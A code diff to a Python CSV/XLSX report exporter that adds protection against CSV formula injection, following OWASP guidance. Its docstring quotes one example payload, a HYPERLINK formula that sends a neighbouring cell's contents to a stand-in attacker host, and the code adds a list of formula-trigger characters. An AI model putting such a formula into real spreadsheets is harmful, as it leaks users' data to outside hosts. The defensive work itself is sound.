@@ -3,6 +3,13 @@
 The XLSX writer is the standard library's zipfile and a handful of SpreadsheetML parts (inline strings, no
 shared-string table, no styles): enough for Excel, LibreOffice and Numbers to open a table of figures, and
 no new dependency. Decimal strings are written as numbers, so a spreadsheet can add them up.
+
+Text comes from users (a customer's name, a lost reason), and a spreadsheet opening a CSV runs any cell that
+starts like a formula: `=HYPERLINK("http://evil.example/?d="&A2,"x")` would send the next cell away. So every
+CSV text cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'` (OWASP's
+rule: the cell then reads as text), while numbers, and strings that are plain decimal numbers like
+`-1600.00`, stay numbers. XLSX needs no such prefix: its text cells are typed inline strings,
+never formulas, and a `'` there would show as part of the name.
 """
 
 from __future__ import annotations
@@ -18,6 +25,8 @@ from backend.reports.service import Table
 
 BOM = "\ufeff"
 NUMBER = re.compile(r"^-?\d+(\.\d+)?$")
+# What makes a spreadsheet read a CSV cell as a formula (OWASP, "CSV Injection").
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
 
 
 def _header(column_label: str, unit: str | None) -> str:
@@ -25,13 +34,18 @@ def _header(column_label: str, unit: str | None) -> str:
 
 
 def _cell_text(value: Any) -> str:
-    return "" if value is None else str(value)
+    if value is None:
+        return ""
+    text = str(value)
+    if isinstance(value, str) and text.startswith(FORMULA_TRIGGERS) and not NUMBER.fullmatch(text):
+        return "'" + text
+    return text
 
 
 def to_csv(table: Table) -> bytes:
     out = io.StringIO()
     writer = csv.writer(out, lineterminator="\r\n")
-    writer.writerow([_header(c.label, c.unit) for c in table.columns])
+    writer.writerow([_cell_text(_header(c.label, c.unit)) for c in table.columns])
     for row in table.rows:
         writer.writerow([_cell_text(row.get(c.key)) for c in table.columns])
     return (BOM + out.getvalue()).encode("utf-8")
